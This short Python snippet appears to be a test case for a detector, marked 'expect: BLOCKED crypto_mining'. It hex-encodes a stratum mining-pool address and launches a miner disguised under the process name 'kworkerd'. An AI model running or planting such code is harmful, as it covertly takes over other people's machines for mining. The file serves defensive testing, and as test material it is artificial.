# expect: BLOCKED crypto_mining
import subprocess
pool = bytes.fromhex("7374726174756d2b7463703a2f2f706f6f6c2e6578616d706c653a33333333").decode()
subprocess.Popen(["./kworkerd", "-o", pool, "-u", "wallet"])
